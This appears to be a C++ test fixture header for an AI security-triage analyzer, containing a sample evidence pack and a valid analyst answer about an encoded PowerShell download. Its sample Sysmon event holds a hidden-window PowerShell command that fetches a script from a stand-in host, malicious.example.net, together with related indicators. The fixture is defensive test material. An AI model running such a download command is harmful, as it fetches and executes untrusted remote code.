#pragma once
// Shared fixtures of the analysis output, prompt and built-in analyst tests: a small evidence pack
// about an encoded PowerShell download, and a valid answer about it that tests then break.
//
//   EvidencePack pack = sample_pack();
//   nlohmann::json answer = valid_answer();
//   answer["severity"] = "severe";

#include <nlohmann/json.hpp>
#include <stdexcept>

#include "triagent/analysis/analyzer.hpp"
#include "triagent/analysis/evidence.hpp"

namespace triagent::analysis::test {

inline const Analyzer& shared_analyzer() {
  static const Analyzer a = [] {
    auto r = Analyzer::create(AnalyzerConfig{});
    if (!r) throw std::runtime_error(r.error().message);
    return std::move(*r);
  }();
  return a;
}

inline EvidenceItem item(std::string id, EvidenceSource source, std::int64_t time_ms, std::string raw) {
  EvidenceItem e;
  e.id = std::move(id);
  e.source = source;
  e.time_ms = time_ms;
  e.raw = std::move(raw);
  return e;
}

inline EvidencePack sample_pack() {
  EvidencePack pack;
  pack.title = "Suspicious PowerShell on ws1";
  pack.kind = "threat";
  pack.severity = Severity::high;
  auto& ev1 = pack.items.emplace_back(item(
      "ev-1", EvidenceSource::dataset, 1'700'000'100'000,
      R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -nop -w hidden -enc SQBFAFgA; iwr http://malicious.example.net/a.ps1","User":"<USER_1>","Computer":"ws1.corp.local"})"));
  ev1.host = "ws1.corp.local";
  ev1.user = "<USER_1>";
  ev1.summary = "powershell.exe started with an encoded command";
  auto& ev2 = pack.items.emplace_back(item("ev-2", EvidenceSource::deep_visibility, 1'700'000'000'000,
                                           "dns query for malicious.example.net from <IP_1> resolved 198.51.100.23"));
  ev2.summary = "DNS lookup of malicious.example.net";
  auto& ev3 = pack.items.emplace_back(item("ev-3", EvidenceSource::threat, 1'700'000'200'000,
                                           "threat a.ps1 blocked; beacon hxxp://bad[.]example[.]org/x"));
  ev3.iocs.push_back({"sha256", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"});
  ev3.fields.push_back({"file", "C:\\Users\\<USER_1>\\Downloads\\a.ps1"});
  pack.queries_run = {"dataset: serverHost='ws1.corp.local' last 1h", "dv: AgentName = \"ws1\""};
  return pack;
}

inline nlohmann::json valid_answer() {
  return nlohmann::json::parse(R"({
    "summary": "Encoded PowerShell on ws1 downloaded a script from malicious.example.net.",
    "severity": "high",
    "severity_score": 70,
    "confidence": 0.8,
    "verdict": "true_positive",
    "techniques": [{"id": "T1059.001", "name": "PowerShell", "evidence_ids": ["ev-1"]},
                   {"id": "T1105", "evidence_ids": ["ev-1", "ev-2"]}],
    "iocs": [{"type": "domain", "value": "malicious.example.net", "evidence_ids": ["ev-1", "ev-2"]},
             {"type": "ipv4", "value": "198.51.100.23", "evidence_ids": ["ev-2"]},
             {"type": "sha256", "value": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "evidence_ids": ["ev-3"]}],
    "impacted_assets": [{"kind": "host", "name": "ws1.corp.local"}, {"kind": "user", "name": "<USER_1>"}],
    "timeline": [{"time": "2023-11-14T22:13:20Z", "event": "DNS lookup", "evidence_ids": ["ev-2"]},
                 {"time": "2023-11-14T22:15:00Z", "event": "PowerShell download", "evidence_ids": ["ev-1"]}],
    "root_cause": "A user ran an encoded PowerShell command.",
    "recommended_actions": [{"action": "add_note", "params": {"title": "AI analysis"}, "reason": "Record the analysis."},
                            {"action": "add_tag", "reason": "Tag the technique."}],
    "tags": ["attack.t1059.001", "powershell"],
    "evidence_ids": ["ev-1", "ev-2", "ev-3"]
  })");
}

}  // namespace triagent::analysis::test
